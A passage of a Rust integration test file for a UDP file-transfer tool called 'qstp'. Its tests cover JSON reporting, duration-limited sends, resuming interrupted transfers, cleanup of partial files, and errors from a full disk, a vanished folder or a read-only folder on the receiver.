        sent += record["bytes"].as_u64().unwrap();
    }
    let total =
        json["mean_rate_bps"].as_f64().unwrap() * json["duration_s"].as_f64().unwrap() / 8.0;
    assert!(
        sent as f64 <= total + 1.0,
        "{sent} of {total} bytes: {json}"
    );
    for key in [
        "file",
        "remote",
        "sla_breach",
        "delivered_rate_bps",
        "receive_rate_bps",
        "datagram_size",
        "pmtu_discovery",
        "pmtu_probes_sent",
        "pmtu_probes_lost",
    ] {
        assert!(json.get(key).is_some(), "{key} missing: {json}");
    }
}

#[test]
fn a_failed_send_prints_a_json_error_object() {
    let dir = scratch("json-error");
    let source = dir.join("lost.bin");
    std::fs::write(&source, pattern(10_000)).unwrap();
    // Nothing listens on this port: the send fails at once.
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr = socket.local_addr().unwrap().to_string();
    drop(socket);
    let output = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args(["--to", &addr, "--quiet", "--json"])
        .output()
        .unwrap();
    assert!(!output.status.success());
    let json: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stdout)));
    assert_eq!(json["verified"], false);
    assert!(
        json["error"].as_str().unwrap().contains("nothing listens"),
        "{json}"
    );
    assert_eq!(json["remote"], addr.as_str());
}

/// `qstp send --duration DURATION --max-rate RATE` to a `recv --once` (in a scratch folder named
/// `name`); checks that the transfer was verified and stored whole, and returns the receiver's
/// address, the bytes moved and the transfer's seconds.
fn send_generated(name: &str, duration: &str, max_rate: &str) -> (String, u64, f64) {
    let dir = scratch(name);
    let target = dir.join("generated.bin");
    let (mut receiver, addr) = start_receiver(&target);
    let output = Command::new(QSTP)
        .args(["send", "--duration", duration, "--to", &addr])
        .args(["--quiet", "--json", "--max-rate", max_rate])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "send failed: {stderr}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["verified"], true);
    let bytes = json["bytes"].as_u64().unwrap();
    assert_eq!(std::fs::metadata(&target).unwrap().len(), bytes);
    (addr, bytes, json["duration_s"].as_f64().unwrap())
}

#[test]
fn send_for_a_duration_moves_generated_bytes_verified() {
    let (addr, bytes, secs) = send_generated("duration", "1s", "20M");
    assert!(bytes > 0);
    // A second of generating, and what the buffers hold drains within it (generous bound).
    assert!((1.0..10.0).contains(&secs), "{secs} s");
    // A file and --duration together are refused.
    let (ok, _, err) = common::qstp(&["send", "x.bin", "--duration", "1", "--to", &addr]);
    assert!(!ok && err.contains("cannot be used with"), "{err}");
}

/// At a rate where the send buffer holds seconds of data (4 MiB at 4 Mbit/s: 8 s), `--duration`
/// still ends the transfer about when the duration is up: generating waits while what is buffered
/// would take longer than the rest of the duration to drain, instead of draining it afterwards.
#[test]
fn send_for_a_duration_ends_near_it_at_a_low_rate() {
    let (_, bytes, secs) = send_generated("duration-low-rate", "3s", "4M");
    // Before generating paced itself, the 4 MiB backlog drained for 8 s more (11-12 s in all).
    assert!((2.5..5.0).contains(&secs), "{secs} s for --duration 3s");
    // And the connection was kept busy: at least half of 3 s at 4 Mbit/s arrived.
    assert!(bytes >= 750_000, "{bytes} bytes");
}

/// The part file a transfer is receiving into in `out` (its data, not its sidecar), if any.
fn part_file(out: &Path) -> Option<std::path::PathBuf> {
    entries(out)
        .into_iter()
        .find(|n| n.contains(".qstp-part-") && !n.ends_with(".meta") && !n.ends_with(".tmp"))
        .map(|n| out.join(n))
}

/// Send `source` to the receiver at `addr` (which prints its errors on `lines`) at 8 Mbit/s and
/// kill the sender (SIGKILL, no goodbye) once the receiver's part file holds half the file; returns
/// the bytes the receiver says it kept to resume.
fn cut_at_half(
    source: &Path,
    out: &Path,
    addr: &str,
    lines: &std::sync::mpsc::Receiver<String>,
) -> u64 {
    let size = std::fs::metadata(source).unwrap().len();
    let mut sender = Command::new(QSTP)
        .arg("send")
        .arg(source)
        .args(["--to", addr, "--quiet", "--max-rate", "8M"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    loop {
        let held = part_file(out)
            .and_then(|p| std::fs::metadata(p).ok())
            .map_or(0, |m| m.len());
        if held >= size / 2 {
            break;
        }
        assert!(
            sender.try_wait().unwrap().is_none(),
            "the sender ended before half the file arrived"
        );
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "half never arrived"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    sender.kill().unwrap();
    sender.wait().unwrap();
    // The receiver notices within its idle timeout and stores what it had.
    let line = wait_for_line(lines, |l| l.starts_with("qstp: "), Duration::from_secs(20));
    assert!(line.contains("interrupted"), "{line}");
    let kept: u64 = line
        .split("; ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no bytes kept: {line}"));
    assert!(kept >= size / 2 && kept < size, "{line}");
    assert!(
        !out.join(source.file_name().unwrap()).exists(),
        "a partial file was presented as complete"
    );
    kept
}

/// `qstp send SOURCE --json` to `addr`: its JSON (it must succeed).
fn send_json(source: &Path, addr: &str) -> serde_json::Value {
    let output = Command::new(QSTP)
        .arg("send")
        .arg(source)
        .args(["--to", addr, "--quiet", "--json"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "send failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn a_transfer_killed_at_half_resumes_and_the_second_send_moves_only_the_rest() {
    let dir = scratch("resume");
    let out = dir.join("out/");
    let source = dir.join("half.bin");
    let size = 4_000_000u64;
    let data = pattern(size as usize);
    std::fs::write(&source, &data).unwrap();
    let (mut receiver, addr, lines) = start_server_streaming(&out, &["--idle-timeout", "1"]);
    let kept = cut_at_half(&source, &out, &addr, &lines);
    let json = send_json(&source, &addr);
    assert_eq!(json["verified"], true, "{json}");
    assert_eq!(json["resumed_from_bytes"], kept, "{json}");
    let carried = json["bytes"].as_u64().unwrap();
    assert_eq!(carried + kept, size, "{json}");
    assert!(
        carried < size * 55 / 100,
        "{carried} of {size} bytes sent again"
    );
    // What went on the wire (datagrams, headers and all) agrees.
    let wire = json["mean_rate_bps"].as_f64().unwrap() * json["duration_s"].as_f64().unwrap() / 8.0;
    assert!(
        wire < size as f64 * 0.6,
        "{wire} datagram bytes for {carried} file bytes"
    );
    assert!(
        std::fs::read(out.join("half.bin")).unwrap() == data,
        "the resumed file differs"
    );
    assert_eq!(
        entries(&out),
        ["half.bin"],
        "the partial and its sidecar are gone"
    );
    let line = wait_for_line(
        &lines,
        |l| l.starts_with("received "),
        Duration::from_secs(10),
    );
    assert!(
        line.contains(&format!("resumed from byte {kept} of {size}")),
        "{line}"
    );
    interrupt(&receiver);
    assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
}

#[test]
fn a_changed_file_of_the_same_name_and_size_is_not_resumed_but_sent_whole() {
    let dir = scratch("resume-changed");
    let out = dir.join("out/");
    let source = dir.join("doc.bin");
    let size = 4_000_000usize;
    std::fs::write(&source, pattern(size)).unwrap();
    let (mut receiver, addr, lines) = start_server_streaming(&out, &["--idle-timeout", "1"]);
    cut_at_half(&source, &out, &addr, &lines);
    // Same name, same size, another first byte: the receiver's prefix hash cannot match.
    let mut changed = pattern(size);
    changed[0] ^= 0xff;
    std::fs::write(&source, &changed).unwrap();
    let json = send_json(&source, &addr);
    assert_eq!(json["verified"], true, "{json}");
    assert_eq!(json["resumed_from_bytes"], 0, "{json}");
    assert_eq!(json["bytes"], size as u64, "{json}");
    assert!(std::fs::read(out.join("doc.bin")).unwrap() == changed);
    assert_eq!(entries(&out), ["doc.bin"]);
    interrupt(&receiver);
    assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
}

#[test]
fn a_partial_older_than_keep_partial_is_removed_and_not_resumed() {
    let dir = scratch("keep-partial");
    let out = dir.join("out/");
    std::fs::create_dir_all(&out).unwrap();
    // Left by an earlier receiver: one two days old, one fresh (both resumable: each has its
    // sidecar), and a fresh one with nothing to resume (no sidecar). At the start the default
    // (24 h) removes the old one, and the one with nothing to resume goes whatever its age.
    let old = out.join(".old.bin.qstp-part-00000000000000aa");
    let fresh = out.join(".fresh.bin.qstp-part-00000000000000bb");
    let fresh_meta = out.join(".fresh.bin.qstp-part-00000000000000bb.meta");
    let orphan = out.join(".stdin.qstp-part-00000000000000cc");
    std::fs::write(&old, b"stale").unwrap();
    std::fs::write(out.join(".old.bin.qstp-part-00000000000000aa.meta"), b"{}").unwrap();
    std::fs::write(&fresh, b"recent").unwrap();
    std::fs::write(&fresh_meta, b"{}").unwrap();
    std::fs::write(&orphan, b"cut").unwrap();
    std::fs::File::options()
        .write(true)
        .open(&old)
        .unwrap()
        .set_modified(std::time::SystemTime::now() - Duration::from_secs(2 * 86400))
        .unwrap();
    let (mut receiver, _, _lines) = start_server_streaming(&out, &[]);
    let start = Instant::now();
    while entries(&out).len() != 2 {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{:?}",
            entries(&out)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(
        entries(&out),
        [
            ".fresh.bin.qstp-part-00000000000000bb",
            ".fresh.bin.qstp-part-00000000000000bb.meta"
        ]
    );
    interrupt(&receiver);
    wait_bounded(&mut receiver, Duration::from_secs(10));
    std::fs::remove_file(&fresh).unwrap();
    std::fs::remove_file(&fresh_meta).unwrap();
    // With --keep-partial 2s, a cut transfer's bytes stay about 2 s, then go.
    let source = dir.join("brief.bin");
    let size = 4_000_000usize;
    std::fs::write(&source, pattern(size)).unwrap();
    let (mut receiver, addr, lines) =
        start_server_streaming(&out, &["--idle-timeout", "1", "--keep-partial", "2s"]);
    cut_at_half(&source, &out, &addr, &lines);
    assert!(part_file(&out).is_some(), "kept for a while");
    let start = Instant::now();
    while !entries(&out).is_empty() {
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "still there: {:?}",
            entries(&out)
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        start.elapsed() >= Duration::from_millis(500),
        "removed too soon"
    );
    let json = send_json(&source, &addr);
    assert_eq!(json["resumed_from_bytes"], 0, "{json}");
    assert_eq!(json["bytes"], size as u64, "{json}");
    assert!(std::fs::read(out.join("brief.bin")).unwrap() == pattern(size));
    interrupt(&receiver);
    assert!(wait_bounded(&mut receiver, Duration::from_secs(10)).success());
}

#[test]
fn a_receiver_interrupted_mid_file_keeps_its_synced_bytes_and_resumes_after_a_restart() {
    let dir = scratch("resume-recv-restart");
    let out = dir.join("out/");
    let source = dir.join("long.bin");
    let size = 4_000_000u64;
    std::fs::write(&source, pattern(size as usize)).unwrap();
    let (mut receiver, addr, lines) = start_server(&out, &[]);
    let mut sender = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args(["--to", &addr, "--quiet", "--max-rate", "8M"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while part_file(&out)
        .and_then(|p| std::fs::metadata(p).ok())
        .map_or(0, |m| m.len())
        < size * 2 / 5
    {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "{:?}",
            entries(&out)
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    interrupt(&receiver);
    assert!(!wait_bounded(&mut receiver, Duration::from_secs(10)).success());
    let lines = lines.join().unwrap();
    let kept: u64 = lines
        .iter()
        .find_map(|l| l.strip_suffix(" bytes kept to resume"))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("nothing kept: {lines:?}"));
    assert!(kept > 0 && kept < size, "{lines:?}");
    assert!(!wait_bounded(&mut sender, Duration::from_secs(20)).success());
    // A new receiver on the same directory offers what the first one synced.
    let (mut receiver, addr, _lines) = start_server(&out, &["--once"]);
    let json = send_json(&source, &addr);
    assert_eq!(json["resumed_from_bytes"], kept, "{json}");
    assert_eq!(json["bytes"].as_u64().unwrap() + kept, size, "{json}");
    assert!(wait_bounded(&mut receiver, Duration::from_secs(30)).success());
    assert!(std::fs::read(out.join("long.bin")).unwrap() == pattern(size as usize));
    assert_eq!(entries(&out), ["long.bin"]);
}

/// A tmpfs of `size` mounted on `dir` for as long as it lives.
struct SmallDisk(std::path::PathBuf);

impl SmallDisk {
    /// `None` (and the reason printed) where mounting is not allowed.
    fn mount(dir: &Path, size: &str) -> Option<SmallDisk> {
        // SAFETY: geteuid has no preconditions.
        if unsafe { libc::geteuid() } != 0 {
            eprintln!("skipped: mounting a tmpfs needs root");
            return None;
        }
        std::fs::create_dir_all(dir).unwrap();
        let ok = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(dir)
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            eprintln!("skipped: cannot mount a tmpfs here");
            return None;
        }
        Some(SmallDisk(dir.to_path_buf()))
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_on_the_receiver_ends_the_send_within_seconds_with_the_reason() {
    let dir = scratch("disk-full");
    let out = dir.join("out");
    let Some(_disk) = SmallDisk::mount(&out, "1m") else {
        return;
    };
    let source = dir.join("big.bin");
    // Far more than the disk and the windows hold, so the sender is still writing when the
    // receiver fails.
    std::fs::write(&source, pattern(20 << 20)).unwrap();
    // A serving receiver (no --once): the one that used to keep the connection open.
    let (mut receiver, addr, _lines) = start_server(&out, &[]);
    let started = Instant::now();
    let (status, stderr) = send_file(&source, &addr);
    let took = started.elapsed();
    let _ = receiver.kill();
    let _ = receiver.wait();
    assert!(
        !status.success(),
        "a file that did not fit was reported sent"
    );
    assert!(
        stderr.contains("disk full on the receiver"),
        "unclear error: {stderr}"
    );
    assert!(took < Duration::from_secs(5), "the sender took {took:?}");
}

/// Send `--duration 3` of generated bytes to `addr` in the background; once the receiver's hidden
/// part file shows in `out`, run `fail` on `out`; returns send's status, its stderr and how long
/// it took after `fail`.
fn send_while_the_folder_fails(
    out: &Path,
    addr: &str,
    fail: impl FnOnce(&Path),
) -> (std::process::ExitStatus, String, Duration) {
    let sender = Command::new(QSTP)
        // Capped, so three seconds over loopback write megabytes, not gigabytes.
        .args([
            "send",
            "--duration",
            "3",
            "--max-rate",
            "40M",
            "--to",
            addr,
            "--quiet",
        ])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !std::fs::read_dir(out).unwrap().any(|e| {
        e.unwrap()
            .file_name()
            .to_string_lossy()
            .contains("qstp-part")
    }) {
        assert!(Instant::now() < deadline, "no part file appeared");
        std::thread::sleep(Duration::from_millis(20));
    }
    fail(out);
    let failed = Instant::now();
    let output = sender.wait_with_output().unwrap();
    (
        output.status,
        String::from_utf8_lossy(&output.stderr).into_owned(),
        failed.elapsed(),
    )
}

/// Send while `fail` makes the receiver's folder unusable; the send fails within 10 s and says
/// `expected` (the verdict, found when the verified file is put in place). Nothing to check when
/// `fail` could not do its part (it returns false).
fn folder_failure_ends_the_send(name: &str, fail: impl FnOnce(&Path) -> bool, expected: &str) {
    let dir = scratch(name);
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let (mut receiver, addr, _lines) = start_server(&out, &[]);
    let mut failed = false;
    let (status, stderr, took) = send_while_the_folder_fails(&out, &addr, |out| failed = fail(out));
    let _ = receiver.kill();
    let _ = receiver.wait();
    let _ = Command::new("umount").arg("-l").arg(&out).status();
    if !failed {
        return;
    }
    assert!(
        !status.success(),
        "a file that could not be stored was reported sent"
    );
    assert!(
        stderr.contains("could not store the file") && stderr.contains(expected),
        "unclear error: {stderr}"
    );
    assert!(took < Duration::from_secs(10), "the sender took {took:?}");
}

#[test]
fn an_output_folder_that_vanishes_mid_transfer_ends_the_send_with_the_reason() {
    folder_failure_ends_the_send(
        "folder-vanishes",
        |out| std::fs::remove_dir_all(out).is_ok(),
        "No such file or directory",
    );
}

#[test]
fn an_output_folder_turned_read_only_mid_transfer_ends_the_send_with_the_reason() {
    // A read-only bind mount over the folder: the open part file stays writable, but nothing
    // in the folder can be created or renamed any more (root ignores permission bits). Not
    // root, or no mount: nothing to show.
    folder_failure_ends_the_send(
        "folder-read-only",
        |out| {
            let run = |args: &[&str]| {
                Command::new("mount")
                    .args(args)
                    .arg(out)
                    .arg(out)
                    .status()
                    .is_ok_and(|s| s.success())
            };
            run(&["--bind"]) && run(&["-o", "remount,bind,ro"])
        },
        "Read-only file system",
    );
}

/// A Ctrl-C that reaches `recv --once` after it stored the file and sent its verdict, while the
/// connection ends gracefully, cuts nothing: the receiver has said it received the file, and
/// exits 0. Behind a relay with 300 ms each way, that graceful end (the sender's acknowledgement
/// of the verdict) takes an RTT, 600 ms; the interrupt comes 150 ms after the file took its
/// name. The receiver used to report such a run "interrupted before a transfer was received" and
/// exit 1, with the file stored and the sender told it was verified (seen on the testbed, which
/// stops a receiver 2 s after its sender ends).
#[test]
fn an_interrupt_after_the_file_is_stored_cuts_nothing() {
    let dir = scratch("interrupt-after-stored");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let source = dir.join("small.bin");
    let data = pattern(64 << 10);
    std::fs::write(&source, &data).unwrap();
    let (mut receiver, server, lines) = start_server_streaming(&out, &["--once"]);
    let (mut relay, relay_addr, relay_err) = start_relay(&server, &["--delay", "300ms"]);
    std::thread::spawn(move || for _ in relay_err.lines() {});
    let mut sender = Command::new(QSTP)
        .arg("send")
        .arg(&source)
        .args(["--to", &relay_addr, "--quiet"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // The file takes its name once stored and verified, just before the verdict goes out.
    let stored = out.join("small.bin");
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::fs::metadata(&stored).map_or(true, |m| m.len() < data.len() as u64) {
        assert!(Instant::now() < deadline, "the file never arrived");
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(150));
    // SAFETY: a signal to the child this test started, whose id it holds.
    unsafe {
        libc::kill(receiver.id() as libc::pid_t, libc::SIGINT);
    }
    let status = wait_bounded(&mut receiver, Duration::from_secs(10));
    let said: Vec<String> = lines.iter().collect();
    assert!(status.success(), "{said:?}");
    assert!(
        said.iter()
            .any(|l| l.starts_with("received ") && l.ends_with("verified")),
        "{said:?}"
    );
    assert!(!said.iter().any(|l| l.contains("interrupted")), "{said:?}");
    assert!(std::fs::read(&stored).unwrap() == data);
    let _ = sender.kill();
    let _ = relay.kill();
    let _ = sender.wait();
    let _ = relay.wait();
}
